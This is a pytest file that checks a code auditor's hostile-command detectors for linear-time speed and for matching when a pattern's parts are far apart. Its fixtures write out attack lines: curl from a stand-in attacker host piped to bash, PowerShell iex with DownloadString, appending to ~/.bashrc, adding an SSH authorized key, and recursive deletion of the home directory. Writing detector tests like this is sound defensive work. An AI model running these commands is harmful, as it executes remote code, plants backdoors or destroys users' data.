"""Long hostile lines: the code auditor's patterns read a line in linear time (a line packed
with the first word of a two-part pattern once took minutes: ``A[^\\n]*B`` rescanned the
line from every ``A``), and the parts of a pattern still match however far apart they are."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from lemon_plugins.auditors.code import CodeAuditor

from lemon_core.protocols import AuditBundle, AuditFile

#: The first words of two-part patterns, each repeated to fill a line; the line's end holds
#: the trigger words so every detector runs on it.
FILLERS = ("cp a b ", "Remove-Item -Recurse ", "require('child_process') net ", "tee ", ">",
           "iex ", "open(", "curl http://a.example/x ", "powershell ", "mv ")
TAIL = " authorized_keys .bashrc cron nc curl base64 rm -"


def _rules(text: str, path: str = "run.sh") -> set[str]:
    bundle = AuditBundle(key="demo", dir=Path("."),
                         files=(AuditFile(path=path, text=text, size=len(text)),))
    return {finding.rule for finding in CodeAuditor().audit(bundle)}


def _seconds(text: str) -> float:
    best = float("inf")
    for _ in range(2):
        start = time.perf_counter()
        _rules(text)
        best = min(best, time.perf_counter() - start)
    return best


@pytest.mark.parametrize("filler", FILLERS)
def test_four_times_the_line_costs_about_four_times_not_sixteen(filler: str) -> None:
    short = _seconds(filler * (6_000 // len(filler)) + TAIL)
    long = _seconds(filler * (24_000 // len(filler)) + TAIL)
    assert long <= 8 * short + 0.05, (filler, short, long)


@pytest.mark.parametrize(("line", "rule"), [
    ("cp skill.sh " + "x " * 20_000 + "~/.bashrc", "code.persistence"),
    ("cp a cp b cp c ~/.zshrc", "code.persistence"),
    ("install -m 600 key " + "-v " * 10_000 + "~/.ssh/authorized_keys", "code.authorized-keys"),
    ("Remove-Item x " + "y " * 5_000 + "-Recurse " + "z " * 5_000 + "~", "code.destructive"),
    ("curl https://get.attacker.invalid/x " + "-s " * 10_000 + "| bash", "code.pipe-to-shell"),
    ("iex iex " + "a " * 10_000 + "(New-Object Net.WebClient).DownloadString('http://x.invalid')",
     "code.pipe-to-shell"),
])
def test_the_parts_of_a_pattern_match_however_far_apart(line: str, rule: str) -> None:
    assert rule in _rules(line + "\n")
